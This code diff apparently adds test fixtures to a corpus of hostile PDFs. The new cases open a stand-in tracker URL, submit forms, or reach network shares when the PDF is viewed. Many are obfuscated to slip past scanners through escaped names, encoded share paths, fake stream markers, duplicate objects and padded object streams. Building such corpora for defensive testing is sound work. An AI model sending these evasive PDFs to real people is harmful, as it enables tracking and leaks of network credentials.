@@ -69,6 +69,85 @@ const ACTIONS: (() => Buffer)[] = [
   () => writePdf(onePage(letter, { more: ['<< /S /Rendition /JS 9 0 R >>'] })),
 ]
 
+const ADDRESS = '<< /S /URI /URI (https://tracker.example/seen) >>'
+const SHARE = '\\\\\\\\host\\\\share\\\\a.pdf'
+const SUBMIT = '<< /S /SubmitForm /F (https://tracker.example/form) >>'
+const inHex = (text: string) => Buffer.from(text, 'latin1').toString('hex')
+const inUtf16 = (text: string) => `FEFF${Buffer.from(text, 'utf16le').swap16().toString('hex')}`
+
+/** How a PDF opens an address, submits a form or reaches for a network share when it is shown. */
+const REACHES_OUT: (() => Buffer)[] = [
+  () => writePdf(onePage(letter, { catalog: `/OpenAction ${ADDRESS}` })),
+  () => writePdf(onePage(letter, { catalog: '/OpenAction 5 0 R', more: [ADDRESS] })),
+  () => writePdf(onePage(letter, { catalog: '/#4FpenAction 5 0 R', more: [ADDRESS] })),
+  () =>
+    writePdf(onePage(letter, { catalog: '/OpenAction % here\n 5 % there\n 0 R', more: [ADDRESS] })),
+  () =>
+    writePdf(
+      onePage(letter, { catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${ADDRESS} >>` }),
+    ),
+  () =>
+    writePdf(
+      onePage(letter, {
+        catalog: '/OpenAction 5 0 R',
+        more: ['<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>', ADDRESS],
+      }),
+    ),
+  // Two objects of one number: a viewer takes the one its table names.
+  () =>
+    Buffer.concat([
+      writePdf(onePage(letter, { catalog: '/OpenAction 5 0 R', more: ['[3 0 R /Fit]'] })),
+      Buffer.from(`5 0 obj\n${ADDRESS}\nendobj\n`),
+      Buffer.from('xref\n0 0\ntrailer\n<< /Root 1 0 R >>\nstartxref\n18\n%%EOF\n'),
+    ]),
+  () => writePdf(onePage(letter, { catalog: `/AA << /WC ${ADDRESS} >>` })),
+  () => writePdf(onePage(letter, { catalog: '/#41A 5 0 R', more: [`<< /O ${ADDRESS} >>`] })),
+  () => writePackedPdf(packedWith(`<< /OpenAction ${ADDRESS} >>`), [letter]),
+  () => writePackedPdf([...packedWith('<< /OpenAction 5 0 R >>'), ADDRESS], [letter]),
+  () => writePackedPdf(packedWith(`<< /AA << /O ${ADDRESS} >> >>`), [letter]),
+  () => writePackedPdf(packedWith('<< /#41#41 9 0 R >>'), [letter]),
+  () => writePdf(onePage(letter, { more: [SUBMIT] })),
+  () => writePdf(onePage(letter, { more: [SUBMIT.replace('/SubmitForm', '/#53ubmitForm')] })),
+  () => writePackedPdf(packedWith(SUBMIT), [letter]),
+  () => writePdf(onePage(letter, { more: ['<< /S /ImportData /F (a.fdf) >>'] })),
+  () => writePdf(onePage(letter, { more: [`<< /S /GoToR /F (${SHARE}) /D [0 /Fit] >>`] })),
+  () => writePackedPdf(packedWith('<< /S /GoTo#52 /F 9 0 R >>'), [letter]),
+  () => writePdf(onePage(letter, { more: [`<< /Type /Filespec /F (${SHARE}) >>`] })),
+  () =>
+    writePdf(onePage(letter, { more: [`<< /Type /Filespec /UF <${inUtf16('\\\\host\\a')}> >>`] })),
+  () => writePdf(onePage(letter, { more: [`<< /X <${inHex('\\\\host\\share')}> >>`] })),
+  () => writePdf(onePage(letter, { more: ['<< /X (\\134\\134host\\134share) >>'] })),
+  () => writePdf(onePage(letter, { more: ['<< /FS /URL /F (https://tracker.example/a) >>'] })),
+  () => writePdf(onePage(letter, { more: [`(${SHARE})`] })),
+  () => writePackedPdf(packedWith(`<< /Type /Filespec /#46 (${SHARE}) >>`), [letter]),
+  () => writePackedPdf(packedWith(`<< /X <${inHex('file://host/share')}> >>`), [letter]),
+  () => writePdf(onePage(streamOf('', '/F (https://tracker.example/content)'))),
+  () => writePdf(onePage(streamOf('', '/F 5 0 R'), { more: ['(content.bin)'] })),
+  () => writePdf(onePage(letter, { more: ['<< /S /URI /URI (file:///c:/a) >>'] })),
+  // Between what only looks like the beginning and the end of a stream.
+  () =>
+    writePdf(
+      onePage(letter, { more: [`<< /T (>> stream\n) /AA << /O ${ADDRESS} >> /X (endstream) >>`] }),
+    ),
+  () => writePdf(onePage(letter, { more: [`<< /T (% 9 0 obj\n) >>`, `<< /AA 5 0 R >>`] })),
+  () =>
+    writePdf(
+      onePage(letter, { more: [streamOf(`9 0 obj\n<< /AA << /O ${ADDRESS} >> >>\nendobj`)] }),
+    ),
+  // What is packed is said far in front of it.
+  () =>
+    writePdf(
+      onePage(letter, {
+        more: [
+          flateStream(
+            `8 0 << /AA << /O ${ADDRESS} >> >>`,
+            `/Type /ObjStm /N 1 /First 4${' '.repeat(5_000)}`,
+          ),
+        ],
+      }),
+    ),
+]
+
 const FILES_INSIDE: (() => Buffer)[] = [
   () => writePdf(onePage(letter, { more: [streamOf('MZ', '/Type /EmbeddedFile')] })),
   () => writePdf(onePage(letter, { catalog: '/Names << /EmbeddedFiles 5 0 R >>' })),
@@ -121,6 +200,7 @@ const BOMBS: (() => Buffer)[] = [
 /** By what they are a case of. */
 export const hostilePdfs: Record<string, (() => Buffer)[]> = {
   'PDF that acts': ACTIONS,
+  'PDF that reaches out': REACHES_OUT,
   'PDF with files inside': FILES_INSIDE,
   'encrypted PDF': LOCKED,
   'PDF that is more': MORE_THAN_PDF,
